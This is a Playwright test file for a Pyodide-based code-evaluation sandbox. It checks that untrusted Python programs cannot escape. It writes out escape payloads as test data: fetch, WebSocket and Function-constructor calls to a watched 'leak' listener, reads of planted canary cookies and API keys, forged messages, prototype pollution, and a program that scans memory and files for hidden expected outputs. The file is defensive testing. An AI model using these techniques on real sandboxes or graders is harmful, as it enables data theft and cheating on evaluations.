// Untrusted programs try to escape the sandbox. Each attack must fail, and the test
// checks that it failed: canaries stay unread, watched routes receive nothing, hidden
// expected outputs stay out of reach, and tampering does not outlive the program.
import type { Page } from '@playwright/test';
import type { Instance } from '../src/core/model/instance.ts';
import { expect, test, type Listener } from './fixtures.ts';
import { workspaceJob } from '../src/core/exec/workspace.ts';
import { runJob, runProgram, sandboxInfo } from './helpers.ts';

const CANARY = 'canary-secret-5f1d9c';

/** Plant secrets where app data lives: storage, a cookie, and an in-memory "API key". */
async function plantCanaries(page: Page): Promise<void> {
  await page.evaluate(async (canary) => {
    localStorage.setItem('hintbench-canary', canary);
    sessionStorage.setItem('hintbench-canary', canary);
    document.cookie = `hintbench_canary=${canary}; SameSite=Strict`;
    (window as unknown as { __apiKey: string }).__apiKey = canary;
    await new Promise<void>((resolve, reject) => {
      const open = indexedDB.open('hintbench-canary', 1);
      open.onupgradeneeded = () => open.result.createObjectStore('keys');
      open.onsuccess = () => {
        const tx = open.result.transaction('keys', 'readwrite');
        tx.objectStore('keys').put(canary, 'apiKey');
        tx.oncomplete = () => resolve();
        tx.onerror = () => reject(tx.error);
      };
      open.onerror = () => reject(open.error);
    });
  }, CANARY);
}

async function canariesIntact(page: Page): Promise<boolean> {
  return page.evaluate(async (canary) => {
    const stored = await new Promise<unknown>((resolve) => {
      const open = indexedDB.open('hintbench-canary', 1);
      open.onsuccess = () => {
        const get = open.result.transaction('keys').objectStore('keys').get('apiKey');
        get.onsuccess = () => resolve(get.result);
      };
    });
    return localStorage.getItem('hintbench-canary') === canary && stored === canary && document.cookie.includes(canary);
  }, CANARY);
}

/** Python that tries one thing per line and prints "name: GOT ..." or "name: blocked <Error>". */
function attempts(lines: Record<string, string>): string {
  const body = Object.entries(lines)
    .map(([name, expr]) => `attempt(${JSON.stringify(name)}, lambda: ${expr})`)
    .join('\n');
  return `try:
    import js  # closed in the sandbox: every attempt through it is blocked
except ImportError:
    js = None
def attempt(name, fn):
    try:
        value = fn()
        print(f"{name}: GOT {str(value)[:120]!r}")
    except BaseException as exc:
        print(f"{name}: blocked {type(exc).__name__}")
${body}
`;
}

function expectAllBlocked(stdout: string, names: string[]): void {
  for (const name of names) expect(stdout, name).toMatch(new RegExp(`^${name.replace(/[.*+?^${}()|[\]\\]/g, '\\$&')}: blocked \\w+$`, 'm'));
  expect(stdout).not.toContain(CANARY);
}

async function noLeaks(listener: Listener, requests: string[]): Promise<void> {
  await new Promise((r) => setTimeout(r, 1500)); // asynchronous attempts would have landed by now
  expect(listener.hits, 'requests that reached the watched listener').toEqual([]);
  expect(
    requests.filter((p) => p.includes('leak')),
    'leak requests to the app server',
  ).toEqual([]);
  // What the app itself loads; anything else would come from the sandbox.
  const unexpected = requests.filter(
    (p) => !/^\/(|index\.html|sw\.js|favicon\.svg|assets\/.*|pyodide\/.*|docs\/.*|datasets\/(builtin|interview)\.jsonl)$/.test(p.split('?')[0]!),
  );
  expect(unexpected, 'unexpected paths requested from the app server').toEqual([]);
}

test.describe('untrusted Python reaches nothing outside its worker', () => {
  test('app storage, cookies, the DOM and the page are out of reach', async ({ warmApp: app }) => {
    await plantCanaries(app);
    const program = attempts({
      localStorage: 'js.localStorage.getItem("hintbench-canary")',
      sessionStorage: 'js.sessionStorage.getItem("hintbench-canary")',
      indexedDB: 'js.indexedDB.open("hintbench-canary")',
      caches: 'js.caches.keys()',
      cookie: 'js.document.cookie',
      document: 'js.document.body',
      window: 'js.window.__apiKey',
      parent: 'js.parent.__apiKey',
      top: 'js.top.__apiKey',
      opener: 'js.opener.__apiKey',
    });
    const [result] = await runProgram(app, program, ['']);
    expectAllBlocked(result!.stdout, ['localStorage', 'sessionStorage', 'indexedDB', 'caches', 'cookie', 'document', 'window', 'parent', 'top', 'opener']);
    expect(await canariesIntact(app)).toBe(true);
  });

  test('a workspace script (a multi-file project step) reaches no more than a program does', async ({ warmApp: app, listener, site }) => {
    await plantCanaries(app);
    const leak = `${listener.url}leak`;
    const attack = attempts({
      localStorage: 'js.localStorage.getItem("hintbench-canary")',
      window: 'js.window.__apiKey',
      parent: 'js.parent.__apiKey',
      fetch: `js.fetch(${JSON.stringify(leak)})`,
      'up the tree': 'open("/workspace/../hintbench/harness.py").read()[:20]',
    });
    const job = workspaceJob({ 'lib/attack.py': attack, 'main.py': 'import lib.attack' }, [{ kind: 'script', argv: ['main.py'] }, { kind: 'files' }], 2000);
    const result = await runJob(app, job);
    const stdout = result.results[0]!.stdout;
    expectAllBlocked(stdout, ['localStorage', 'window', 'parent', 'fetch']);
    // The harness's own files are readable (Pyodide is not a boundary), but hold no secret: the app compares outside.
    expect(stdout).toMatch(/^up the tree: GOT/m);
    expect(await canariesIntact(app)).toBe(true);
    await noLeaks(listener, site.requests);
  });

  test('the network is unreachable by every route', async ({ warmApp: app, listener, site }) => {
    const leak = `${listener.url}leak`;
    const appLeak = `${site.url}leak-app`;
    const program = attempts({
      fetch: `js.fetch(${JSON.stringify(leak)})`,
      'self.fetch': `js.self.fetch(${JSON.stringify(leak)})`,
      'prototype fetch': `js.WorkerGlobalScope.prototype.fetch.call(js.self, ${JSON.stringify(leak)})`,
      XMLHttpRequest: 'js.XMLHttpRequest.new()',
      importScripts: `js.importScripts(${JSON.stringify(leak)})`,
      WebSocket: `js.WebSocket.new(${JSON.stringify(leak.replace('http', 'ws'))})`,
      EventSource: `js.EventSource.new(${JSON.stringify(leak)})`,
      'Function constructor': `js.Object.constructor(${JSON.stringify(`return fetch("${leak}")`)})()`,
      'JsProxy.constructor.constructor': `type(js.Object).__call__ and js.Array.constructor.constructor(${JSON.stringify(`fetch("${appLeak}")`)})()`,
      'Function constructor through to_js': `__import__("pyodide.ffi", fromlist=["to_js"]).to_js([]).constructor.constructor(${JSON.stringify(`return fetch("${leak}")`)})()`,
      run_js: `__import__("pyodide.code", fromlist=["run_js"]).run_js(${JSON.stringify(`fetch("${leak}")`)})`,
      'pyodide_js.loadPackage': `__import__("pyodide_js").loadPackage(${JSON.stringify(`${appLeak}/x.whl`)})`,
      'pyodide.http.open_url': `__import__("pyodide.http", fromlist=["open_url"]).open_url(${JSON.stringify(leak)})`,
      'pyodide.http.pyfetch': `__import__("pyodide.http", fromlist=["pyfetch"]).pyfetch(${JSON.stringify(leak)})`,
      'new Worker': `js.Worker.new(${JSON.stringify(leak)})`,
      BroadcastChannel: 'js.BroadcastChannel.new("hintbench").postMessage("hi")',
    });
    const [result] = await runProgram(app, program, ['']);
    const stdout = result!.stdout;
    // Everything that could even start a request is gone from the worker...
    for (const name of [
      'fetch',
      'self.fetch',
      'prototype fetch',
      'XMLHttpRequest',
      'importScripts',
      'WebSocket',
      'EventSource',
      'new Worker',
      'BroadcastChannel',
      'Function constructor through to_js',
    ]) {
      expect(stdout, name).toMatch(new RegExp(`^${name}: blocked`, 'm'));
    }
    // ...and whatever is left (eval-based routes, Pyodide's own loaders) must not get out.
    await noLeaks(listener, site.requests);
  });

  test.describe(() => {
    // This test provokes the CSP on purpose; the browser logs each blocked request.
    test.use({ consoleAllow: [/Content Security Policy/] });
    test("the sandbox page's CSP blocks all network access, in the page and in fresh workers", async ({ warmApp: app, listener, site }) => {
      const frame = app.frames().find((f) => f.url() === 'about:srcdoc')!;
      expect(frame).toBeTruthy();
      const verdicts = await frame.evaluate(
        async ({ leak, appAsset, pyodideFile }) => {
          const tryFetch = async (url: string) =>
            fetch(url).then(
              (r) => `fetched ${r.status}`,
              (e: Error) => `blocked ${e.name}`,
            );
          const inWorker = (url: string) =>
            new Promise<string>((resolve) => {
              const code = `fetch(${JSON.stringify(url)}).then(r => postMessage('fetched ' + r.status), e => postMessage('blocked ' + e.name))`;
              const worker = new Worker(URL.createObjectURL(new Blob([code], { type: 'text/javascript' })));
              worker.onmessage = (e) => resolve(String(e.data));
              worker.onerror = () => resolve('worker failed');
            });
          return {
            pageLeak: await tryFetch(leak),
            pageAppAsset: await tryFetch(appAsset),
            pagePyodide: await tryFetch(pyodideFile),
            workerLeak: await inWorker(leak),
            workerAppAsset: await inWorker(appAsset),
            workerTraversal: await inWorker(pyodideFile.replace(/pyodide\/.*$/, 'pyodide/..%2fsandbox.html')),
            workerPyodide: await inWorker(pyodideFile),
            origin: self.origin, // the effective origin (location.origin shows the URL's)
            isolated: crossOriginIsolated,
          };
        },
        {
          leak: `${listener.url}leak-csp`,
          appAsset: `${site.url}index.html`,
          pyodideFile: `${site.url}pyodide/${(await sandboxInfo(app)).pyodideVersion}/pyodide-lock.json`,
        },
      );
      // Even the Pyodide files: the app fetches them and hands the bytes over.
      expect(verdicts).toMatchObject({
        pageLeak: 'blocked TypeError',
        pageAppAsset: 'blocked TypeError',
        pagePyodide: 'blocked TypeError',
        workerLeak: 'blocked TypeError',
        workerAppAsset: 'blocked TypeError',
        workerTraversal: 'blocked TypeError',
        workerPyodide: 'blocked TypeError',
        origin: 'null',
      });
      await noLeaks(listener, site.requests);
    });
  });

  test('the app cannot be reached from the sandbox frame either', async ({ warmApp: app }) => {
    const attrs = await app.evaluate(() => {
      const iframe = document.querySelector('iframe')!;
      let readable = true;
      try {
        void iframe.contentWindow!.document.body;
      } catch {
        readable = false;
      }
      return { sandbox: iframe.getAttribute('sandbox'), readable };
    });
    expect(attrs).toEqual({ sandbox: 'allow-scripts', readable: false });
  });

  test('forged messages and message listeners go nowhere', async ({ warmApp: app }) => {
    const program = attempts({
      postMessage: 'js.postMessage({"type": "test-result", "nonce": "x", "index": 0})',
      'self.postMessage': 'js.self.postMessage("forged")',
      'prototype postMessage': 'js.DedicatedWorkerGlobalScope.prototype.postMessage.call(js.self, "forged")',
      addEventListener: 'js.self.addEventListener("message", __import__("pyodide.ffi", fromlist=["create_proxy"]).create_proxy(print))',
      'EventTarget addEventListener':
        'js.EventTarget.prototype.addEventListener.call(js.self, "message", __import__("pyodide.ffi", fromlist=["create_proxy"]).create_proxy(print))',
      close: 'js.close()',
    });
    const results = await runProgram(app, program, ['', '']);
    expectAllBlocked(results[0]!.stdout, [
      'postMessage',
      'self.postMessage',
      'prototype postMessage',
      'addEventListener',
      'EventTarget addEventListener',
      'close',
    ]);
    expect(results.map((r) => r.status)).toEqual(['ok', 'ok']);
    expect(results[1]!.stdout).toBe(results[0]!.stdout); // the second test ran for real, unaffected
  });
});

test.describe('hidden expected outputs stay out of reach', () => {
  const hidden = ['EXPECTED-7f3a-zero', 'EXPECTED-7f3a-one', 'EXPECTED-7f3a-two'];
  // The program passes a test only if it can find that test's expected output somewhere.
  const snoop = `import gc, os, sys
try:
    import js
except ImportError:
    js = None
def scan_fs():
    found = []
    for root, dirs, files in os.walk("/"):
        if root.startswith(("/proc", "/dev", "/sys")):
            dirs[:] = []
            continue
        for name in files:
            try:
                with open(os.path.join(root, name), "rb") as f:
                    data = f.read(2_000_000)
            except Exception:
                continue
            i = data.find(b"EXPECTED-7f3a")
            if i >= 0:
                found.append(data[i:i + 40].split()[0].decode())
    return found
def scan_objects():
    found = []
    for obj in gc.get_objects():
        if isinstance(obj, dict):
            for v in list(obj.values()):
                if isinstance(v, str) and "EXPECTED-7f3a" in v and "found" not in v:
                    found.append(v)
    return found
def scan_js():
    found = []
    if js is None:
        return found
    for name in js.Object.getOwnPropertyNames(js.self):
        try:
            text = str(getattr(js.self, name))
        except Exception:
            continue
        if "EXPECTED-7f3a" in text:
            found.append(text)
    return found
candidates = [c for c in scan_fs() + scan_objects() + scan_js() if c.startswith("EXPECTED-7f3a") and c != "EXPECTED-7f3a"]
print(candidates[0] if candidates else "nothing found")
`;

  test('a program that searches the filesystem, the heap and the JS realm finds none', async ({ warmApp: app }) => {
    const instance: Instance = {
      id: 'snoop',
      title: 'Snoop',
      source: { name: 'adversarial fixture' },
      statement: 'Print the hidden answer.',
      language: 'python',
      buggy: snoop,
      reference: 'print(input())',
      testKind: 'stdio',
      tests: hidden.map((expected, i) => ({ id: `h${i}`, input: `test ${i}\n`, expected: `${expected}\n` })),
    };
    const report = await app.evaluate(([inst]) => window.hintbench.exec([inst], 'buggy'), [instance] as const);
    expect(report.results[0]!.outcomes.map((o) => o.outcome)).toEqual(['wrong-answer', 'wrong-answer', 'wrong-answer']);
    // The same search does succeed when the answer is legitimately given as input:
    const sanity = await runProgram(
      app,
      snoop.replace(
        'print(candidates',
        'open("/tmp/x", "w").write(input())\ncandidates = [c for c in scan_fs() if c.startswith("EXPECTED-7f3a") and c != "EXPECTED-7f3a"]\nprint(candidates',
      ),
      ['EXPECTED-7f3a-given\n'],
    );
    expect(sanity[0]!.stdout).toBe('EXPECTED-7f3a-given\n');
  });
});

test.describe('tampering does not outlive the program', () => {
  test("a program has no js and no pyodide_js: its worker's global scope and Pyodide's API are out of reach", async ({ warmApp: app }) => {
    const program =
      'for name in ("js", "pyodide_js", "js.self"):\n    try:\n        __import__(name)\n        print(name, "imported")\n    except ImportError as exc:\n        print(name, type(exc).__name__, "no access to JavaScript" in str(exc))';
    expect((await runProgram(app, program, ['']))[0]!.stdout).toBe(
      'js ModuleNotFoundError True\npyodide_js ModuleNotFoundError True\njs.self ModuleNotFoundError True\n',
    );
  });

  test('a program that changes the JavaScript realm (through what to_js reaches) gets its results voided and its worker replaced', async ({ warmApp: app }) => {
    const before = await sandboxInfo(app);
    const array = 'from pyodide.ffi import to_js\nArray = to_js([]).constructor\n';
    const stash = `${array}Array.prototype.polluted = 1\nprint("tampered")`;
    const [stashed] = await runProgram(app, stash, ['']);
    expect(stashed).toMatchObject({ status: 'exception', excType: 'SandboxTampering' });
    await expect.poll(async () => (await sandboxInfo(app)).workersReplaced).toBe(before.workersReplaced + 1);
    // Breaking a built-in can at most spoil the tamperer's own result...
    const [sabotaged] = await runProgram(app, `${array}Array.prototype.join = Array.prototype.reverse\nprint("sabotage")`, ['']);
    expect(sabotaged).toMatchObject({ status: 'exception', excType: 'SandboxTampering' });
    await expect.poll(async () => (await sandboxInfo(app)).workersReplaced).toBe(before.workersReplaced + 2);
    // ...and every worker the next programs land on is clean.
    const probe = `${array}print(hasattr(Array.prototype, "polluted"), Array.prototype.join == Array.prototype.reverse)`;
    for (let i = 0; i < before.poolSize + before.spares + 1; i++) {
      expect((await runProgram(app, probe, ['']))[0]!.stdout).toBe('False False\n');
    }
  });

  test("a program that leaves JavaScript holding Python objects (a callback, a promise's handlers) gets its worker replaced: nothing of it runs in a later job", async ({
    warmApp: app,
  }) => {
    const before = await sandboxInfo(app);
    const callback =
      'import math\nfrom pyodide.ffi import create_proxy, to_js\nto_js([]).constructor.prototype.forEach.call(to_js([1]), create_proxy(lambda *a: setattr(math, "pi", 3)))\nkeep = create_proxy(lambda: setattr(math, "pi", 3))\nprint("handed")';
    expect((await runProgram(app, callback, ['']))[0]).toMatchObject({ status: 'ok', stdout: 'handed\n' });
    await expect.poll(async () => (await sandboxInfo(app)).workersReplaced).toBe(before.workersReplaced + 1);
    expect((await sandboxInfo(app)).lastReplacement).toContain('proxies');
    // A promise: Pyodide attaches handlers that would run after the job.
    const promise =
      'import math\nfrom pyodide.ffi import to_js\nfuture = to_js([]).constructor.fromAsync(to_js([]))\nfuture.add_done_callback(lambda f: setattr(math, "pi", 3))\nprint(type(future).__name__)';
    expect((await runProgram(app, promise, ['']))[0]).toMatchObject({ status: 'ok', stdout: 'PyodideFuture\n' });
    await expect.poll(async () => (await sandboxInfo(app)).workersReplaced).toBe(before.workersReplaced + 2);
    expect((await sandboxInfo(app)).lastReplacement).toContain('a promise');
    const info = await sandboxInfo(app);
    for (let i = 0; i < info.poolSize + info.spares + 1; i++) {
      expect((await runProgram(app, 'import math\nprint(math.pi)', ['']))[0]!.stdout).toBe('3.141592653589793\n');
    }
  });

  test('Python-level patches are undone before the next test and the next program', async ({ warmApp: app }) => {
    const patch =
      'import builtins, math, sys\nif input() == "patch":\n    builtins.print = lambda *a, **k: None\n    math.pi = 3\n    sys.setrecursionlimit(50)\nelse:\n    print(math.pi, sys.getrecursionlimit())';
    const results = await runProgram(app, patch, ['patch\n', 'check\n']);
    expect(results[1]!.stdout).toBe('3.141592653589793 1000\n');
    expect((await runProgram(app, 'import math\nprint(math.pi)', ['']))[0]!.stdout).toBe('3.141592653589793\n');
  });
});
